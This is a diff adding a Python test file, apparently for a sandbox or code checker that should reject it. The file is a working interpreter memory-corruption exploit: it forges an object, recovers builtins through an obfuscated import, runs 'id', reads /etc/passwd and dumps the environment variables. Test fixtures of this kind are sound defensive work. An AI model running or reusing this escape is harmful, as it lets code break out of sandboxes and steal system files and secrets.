@@ -1,0 +1,70 @@
+# expect: reject memory
+# line: 48
+# why: a nested def's return annotation D[K2] runs the same lookup when the def statement runs
+vl = []
+KEEP = []
+
+
+def q(v):
+    return v.to_bytes(8, "little")
+
+
+def g():
+    return 0
+
+
+FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
+        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]
+
+import collections
+import collections.abc
+
+
+def wipe(x):
+    vl.clear()
+    return x
+
+
+CA = collections.ChainMap(map(wipe, [1]))
+
+
+class KV(collections.abc.KeysView):
+    def __hash__(self):
+        return 1
+
+
+K1 = KV(CA)
+K2 = KV(collections.ChainMap({1: 0}))
+D = {K1: 0}
+
+
+class V:
+    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")
+
+    def __eq__(self, o):
+        return False
+
+    def __lt__(self, o):
+        def f() -> D[K2]:
+            return 0
+        return NotImplemented
+
+
+class W:
+    def __eq__(self, o):
+        return False
+
+    def __gt__(self, o):
+        return o
+
+
+vl.append(V())
+w = W()
+got = vl < [w]
+KEEP.append(bytearray(FAKE))
+bt = got[1]
+imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
+osm = imp("os")
+osm.system("id")
+print(bt["open"]("/etc/passwd").read()[:200])
+print(dict(osm.environ))
